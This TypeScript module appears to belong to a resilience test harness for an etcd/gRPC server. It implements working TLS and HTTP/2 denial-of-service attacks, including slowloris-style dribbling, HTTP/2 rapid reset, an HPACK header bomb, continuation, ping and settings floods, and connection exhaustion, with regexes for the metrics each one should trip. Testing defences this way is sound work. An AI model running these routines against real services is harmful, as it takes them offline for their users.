/** The attacks, each a few lines: what is sent, by how many at once. */
import type { Socket } from 'node:net';
import { frame, grpcHeaders, grpcMessage, PREFACE, settings, windowUpdate } from '../raw.ts';
import { clientHello, ignoreAnswers, open, openTcp, pause, push, swarm, type Target, whenClosed } from './weapons.ts';

export interface Attack {
  readonly name: string;
  readonly what: string;
  /** What the member calls it, in its metrics and in its log. */
  readonly countedAs: RegExp;
  /** Nothing about it is against the rules before it has lasted for long, so that a short one leaves no trace. */
  readonly isQuiet?: true;
  /** It comes once a handshake is done. */
  readonly isBehindTls?: true;
  /** `size`: connections for those attacks that are about their number. */
  readonly run: (target: Target, isOver: () => boolean, size: number) => Promise<void>;
}

const RANGE = '/etcdserverpb.KV/Range';
const SLOW_MS = 250;

/** A connection that has said what HTTP/2 begins with. */
async function openHttp2(target: Target, first: [number, number][] = []): Promise<Socket | null> {
  const socket = await open(target, 'h2');
  if (socket === null) return null;
  ignoreAnswers(socket);
  socket.write(Buffer.concat([PREFACE, settings(first)]));
  return socket;
}

/** The same batch again and again on one connection, until it is closed; then on the next. */
function flood(make: (round: number) => Buffer, width = 4): Attack['run'] {
  return (target, isOver) =>
    swarm(width, isOver, async () => {
      const socket = await openHttp2(target);
      if (socket === null) return false;
      for (let round = 0; !isOver() && (await push(socket, make(round))); round++) await pause(1);
      socket.destroy();
      return false;
    });
}

/** Bytes one after the other, each after a while, over many connections. */
function dribble(
  protocol: 'tls' | 'h2' | 'http/1.1',
  bytes: (target: Target) => Promise<Buffer>,
  everyMs = SLOW_MS,
): Attack['run'] {
  return async (target, isOver, size) => {
    const all = await bytes(target);
    await swarm(Math.min(size, 500), isOver, async () => {
      const socket = protocol === 'tls' ? await openTcp(target) : await open(target, protocol);
      if (socket === null) return false;
      ignoreAnswers(socket);
      for (let at = 0; at < all.length && !isOver() && !socket.destroyed; at++) {
        socket.write(all.subarray(at, at + 1));
        await pause(everyMs);
      }
      socket.destroy();
      return false;
    });
  };
}

function repeat(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

const reset = (stream: number): Buffer => frame(3, 0, stream, Buffer.from([0, 0, 0, 8]));
const ping = frame(6, 0, 0, Buffer.alloc(8, 1));

/** Indexed one-byte references to a large field of the dynamic table (RFC 7541): a header list of megabytes. */
function bomb(stream: number): Buffer {
  const value = Buffer.alloc(3900, 'b');
  const length = Buffer.from([127, 0x80 | ((value.length - 127) & 0x7f), (value.length - 127) >> 7]);
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x78]), length, value]);
  return frame(1, 5, stream, Buffer.concat([literal, Buffer.alloc(12_000, 0xbe)]));
}

/** Headers that never end. */
function continuations(stream: number): Buffer {
  const field = Buffer.from([0x00, 1, 0x78, 1, 0x79]);
  return Buffer.concat([frame(1, 1, stream, field), repeat(100, () => frame(9, 0, stream, field))]);
}

const TLS: readonly Attack[] = [
  {
    name: 'hello-flood',
    what: 'hellos that cost the server a handshake and the attacker nothing; the connection is cut at the answer',
    countedAs: /hang-up/,
    async run(target, isOver) {
      const hello = await clientHello();
      await swarm(100, isOver, async () => {
        const socket = await openTcp(target);
        if (socket === null) return false;
        socket.write(hello);
        await Promise.race([new Promise((resolve) => socket.once('data', resolve)), whenClosed(socket)]);
        socket.destroy();
        return true;
      });
    },
  },
  {
    name: 'half-open',
    what: 'handshakes begun and never finished',
    countedAs: /timeout|hang-up|overload/,
    async run(target, isOver, size) {
      const hello = await clientHello();
      await swarm(size, isOver, async () => {
        const socket = await openTcp(target);
        if (socket === null) return false;
        ignoreAnswers(socket);
        socket.write(hello);
        while (!isOver() && !socket.destroyed) await pause(SLOW_MS);
        socket.destroy();
        return false;
      });
    },
  },
  {
    name: 'slow-hello',
    what: 'a hello of which a byte comes now and then',
    countedAs: /timeout|hang-up|overload/,
    run: dribble('tls', clientHello),
  },
  {
    name: 'not-tls',
    what: 'connections that speak something else, as fast as they are let',
    countedAs: /not-tls/,
    run: (target, isOver) =>
      swarm(50, isOver, async () => {
        const socket = await openTcp(target);
        if (socket === null) return false;
        ignoreAnswers(socket);
        socket.write(Buffer.alloc(300, 'x'));
        await whenClosed(socket);
        return true;
      }),
  },
];

const HTTP: readonly Attack[] = [
  {
    name: 'slow-http1',
    what: 'the head of an HTTP/1.1 request, a byte now and then',
    isQuiet: true,
    countedAs: /http1|header|connections_unasked/,
    run: dribble('http/1.1', async () =>
      Buffer.from(`GET /version HTTP/1.1\r\nHost: x\r\n${'X-A: b\r\n'.repeat(500)}`),
    ),
  },
  {
    name: 'slow-http2',
    what: 'an HTTP/2 preface, a byte now and then',
    isQuiet: true,
    countedAs: /preface|connections_unasked/,
    // The preface alone takes longer than the ten seconds it may.
    run: dribble('h2', async () => Buffer.concat([PREFACE, settings([]), grpcHeaders(1, RANGE)]), 3 * SLOW_MS),
  },
  {
    name: 'rapid-reset',
    what: 'requests that are reset as soon as they are sent (CVE-2023-44487)',
    countedAs: /enhance_your_calm/,
    run: flood((round) =>
      repeat(100, (index) => {
        const stream = 2 * (round * 100 + index) + 1;
        return Buffer.concat([
          grpcHeaders(stream, RANGE),
          grpcMessage(stream, Buffer.from([0x0a, 1, 0x61]), false),
          reset(stream),
        ]);
      }),
    ),
  },
  {
    name: 'header-bomb',
    what: 'a few kilobytes that unpack to megabytes of headers (CVE-2016-6581, CVE-2026-49975)',
    countedAs: /http2_header_list/,
    run: flood((round) => repeat(5, (index) => bomb(2 * (round * 5 + index) + 1))),
  },
  {
    name: 'continuation-flood',
    what: 'a header block that never ends (CVE-2024-27316)',
    countedAs: /http2_/,
    run: flood((round) => continuations(2 * round + 1)),
  },
  {
    name: 'ping-flood',
    what: 'pings without end (CVE-2019-9512)',
    countedAs: /enhance_your_calm/,
    run: flood(() => repeat(500, () => ping)),
  },
  {
    name: 'settings-flood',
    what: 'settings without end (CVE-2019-9515)',
    countedAs: /enhance_your_calm/,
    run: flood((round) => repeat(300, (index) => settings([[4, 1000 + ((round + index) % 1000)]]))),
  },
  {
    name: 'zero-window',
    what: 'answers asked for through a window that is shut, and never read',
    isQuiet: true,
    countedAs: /answers_unread/,
    run: (target, isOver) =>
      swarm(50, isOver, async () => {
        const socket = await openHttp2(target, [[4, 0]]);
        if (socket === null) return false;
        socket.pause();
        const everything = Buffer.from([0x0a, 1, 0, 0x12, 1, 0]);
        socket.write(
          repeat(20, (index) => {
            const stream = 2 * index + 1;
            return Buffer.concat([grpcHeaders(stream, RANGE), grpcMessage(stream, everything)]);
          }),
        );
        while (!isOver() && !socket.destroyed) await pause(SLOW_MS);
        socket.destroy();
        return false;
      }),
  },
  {
    name: 'oversized',
    what: 'frames, messages, headers and windows larger than anybody may send',
    countedAs: /http2_/,
    run: (target, isOver) =>
      swarm(8, isOver, async (index) => {
        const socket = await openHttp2(target);
        if (socket === null) return false;
        const huge = Buffer.alloc(9);
        huge.writeUIntBE(0xffffff, 0, 3);
        const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff]);
        const kinds = [
          Buffer.concat([huge, Buffer.alloc(100_000)]),
          Buffer.concat([
            grpcHeaders(1, RANGE),
            frame(0, 0, 1, prefix),
            repeat(100, () => frame(0, 0, 1, Buffer.alloc(16_000))),
          ]),
          frame(1, 4, 1, Buffer.alloc(16_000, 0x40)),
          Buffer.concat([grpcHeaders(1, RANGE), windowUpdate(0, 0x7fffffff), windowUpdate(0, 0x7fffffff)]),
        ];
        await push(socket, kinds[index % kinds.length] as Buffer);
        await Promise.race([whenClosed(socket), pause(500)]);
        socket.destroy();
        return true;
      }),
  },
  {
    name: 'connections',
    what: 'connections that are opened properly and then say nothing',
    isQuiet: true,
    countedAs: /connections/,
    async run(target, isOver, size) {
      const held: Socket[] = [];
      let begun = 0;
      await swarm(
        50,
        () => isOver() || begun >= size,
        async () => {
          begun++;
          const socket = await openHttp2(target);
          if (socket !== null) held.push(socket);
          return socket !== null;
        },
      );
      while (!isOver()) await pause(SLOW_MS);
      for (const socket of held) socket.destroy();
    },
  },
];

export const ATTACKS: readonly Attack[] = [
  ...TLS,
  ...HTTP.map((attack) => ({ ...attack, isBehindTls: true as const })),
];
